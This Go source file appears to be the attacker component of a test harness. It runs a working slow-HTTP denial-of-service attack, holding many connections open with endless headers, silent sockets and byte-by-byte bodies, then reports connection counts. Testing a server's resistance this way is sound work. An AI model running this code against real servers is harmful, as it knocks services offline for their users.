package main

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

const attackerPart = "attacker"

// attackOrder says whom to attack from now on, and with how many connections; an empty address ends the attack.
type attackOrder struct {
	Address, Key string
	Connections  int
}

// attackAnswer comes once the connections of an order have been opened, and tells of the attack before it.
type attackAnswer struct {
	Open   int64 // connections at its end
	Opened int64 // connections in all
}

// playAttacker keeps up one attack after another.
func playAttacker(orders *json.Decoder, answers *json.Encoder) error {
	var current *attack
	defer func() { current.end() }()
	for {
		var order attackOrder
		if err := orders.Decode(&order); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
		answer := current.end()
		current = nil
		if order.Address != "" {
			// A byte a second each. They are opened one by one over a second, too.
			current = beginAttack(order, attackOn(order), time.Second)
		}
		if err := answers.Encode(answer); err != nil {
			return err
		}
	}
}

// slowly is one kind of attacking connection: what it sends at once, what byte by byte, and for how long the
// server, by default, waits for the rest.
type slowly struct {
	atOnce, trickled string
	lasts            time.Duration
}

// attackOn returns the kinds of connections, of which there are equally many: one that sends a header that never
// ends, one that sends nothing, and two that send a body that never ends, with a key and without.
func attackOn(order attackOrder) []slowly {
	const endless = 10_000 // bytes: nobody waits for so many seconds
	head := "POST /v1/documents/doc-0/delivery HTTP/1.1\r\nHost: " + order.Address + "\r\n"
	body := fmt.Sprintf("Content-Type: application/json\r\nContent-Length: %d\r\n\r\n", endless)
	return []slowly{
		{head + "X-Padding: ", strings.Repeat("x", endless), 5 * time.Second},
		{"", "", 5 * time.Second},
		{head + "Authorization: Bearer " + order.Key + "\r\n" + body, strings.Repeat(" ", endless), 10 * time.Second},
		{head + body, strings.Repeat(" ", endless), 10 * time.Second},
	}
}

// attack is a number of connections that are kept up.
type attack struct {
	open, opened atomic.Int64
	held         []atomic.Pointer[held] // nil where one is just not open
	beat         time.Duration          // from one byte of a connection to the next
	cancel       context.CancelFunc
	work         sync.WaitGroup
}

// held is an open connection of an attack.
type held struct {
	net.Conn
	rest string    // what is still to be sent
	end  time.Time // when to give it up
}

// beginAttack returns when the server has had each connection once.
func beginAttack(order attackOrder, kinds []slowly, beat time.Duration) *attack {
	ctx, cancel := context.WithCancel(context.Background())
	a := &attack{held: make([]atomic.Pointer[held], order.Connections), beat: beat, cancel: cancel}
	var tried sync.WaitGroup
	tried.Add(len(a.held))
	for i := range a.held {
		a.work.Go(func() {
			pause(ctx, beat*time.Duration(i)/time.Duration(len(a.held)))
			a.keepUp(ctx, i, order.Address, kinds[i%len(kinds)], sync.OnceFunc(tried.Done))
		})
	}
	a.work.Go(func() { a.trickle(ctx) })
	tried.Wait()
	return a
}

// end closes the connections and tells how the attack went; nil is an attack that never was.
func (a *attack) end() (answer attackAnswer) {
	if a == nil {
		return answer
	}
	answer.Open = a.open.Load()
	a.cancel()
	a.work.Wait()
	answer.Opened = a.opened.Load()
	return answer
}

// keepUp opens a connection, again and again, until ctx ends.
func (a *attack) keepUp(ctx context.Context, i int, address string, kind slowly, tried func()) {
	// Each is given up early the first time, after a time of its own: so what the server ends after the same time
	// for all it ends evenly from the beginning, as it would if the attack had gone on for long.
	life := rand.N(kind.lasts)
	for ctx.Err() == nil {
		began := time.Now()
		a.keep(ctx, i, address, kind, began.Add(life), tried)
		tried()
		life = 10 * kind.lasts
		pause(ctx, a.beat-time.Since(began)) // a server that refuses at once is not to meet a busy loop instead
	}
	tried()
}

// keep opens a connection and keeps it until the server ends it, its own end has come or ctx ends. What fails is
// for the server to decide, and shows in the numbers.
func (a *attack) keep(ctx context.Context, i int, address string, kind slowly, end time.Time, tried func()) {
	dialer := net.Dialer{Timeout: 10 * time.Second}
	connection, err := dialer.DialContext(ctx, "tcp", address)
	if err != nil {
		return
	}
	a.open.Add(1)
	a.opened.Add(1)
	defer a.open.Add(-1)
	defer connection.Close()
	defer context.AfterFunc(ctx, func() { _ = connection.Close() })()
	if _, err := io.WriteString(connection, kind.atOnce); err != nil {
		return
	}
	a.held[i].Store(&held{Conn: connection, rest: kind.trickled, end: end})
	defer a.held[i].Store(nil)
	tried()
	_, _ = io.Copy(io.Discard, connection) // an answer is not the end yet
}

// trickle sends a byte on each connection in every beat, on some of them at a time: woken up for each by itself,
// this process would take more from the machine than what it attacks.
func (a *attack) trickle(ctx context.Context) {
	const groups = 100
	ticks := time.NewTicker(a.beat / groups)
	defer ticks.Stop()
	for group := 0; ; group = (group + 1) % groups {
		select {
		case <-ctx.Done():
			return
		case now := <-ticks.C:
			for i := group * len(a.held) / groups; i < (group+1)*len(a.held)/groups; i++ {
				if h := a.held[i].Load(); h != nil {
					h.trickle(now)
				}
			}
		}
	}
}

// trickle sends the next byte, if there is one. That it could not be sent who reads from the connection sees, too.
func (h *held) trickle(now time.Time) {
	switch {
	case now.After(h.end):
		_ = h.Close()
	case h.rest != "":
		_, _ = io.WriteString(h.Conn, h.rest[:1])
		h.rest = h.rest[1:]
	}
}

// pause waits for a time, or for the end of ctx.
func pause(ctx context.Context, d time.Duration) {
	if d <= 0 {
		return
	}
	timer := time.NewTimer(d)
	defer timer.Stop()
	select {
	case <-timer.C:
	case <-ctx.Done():
	}
}
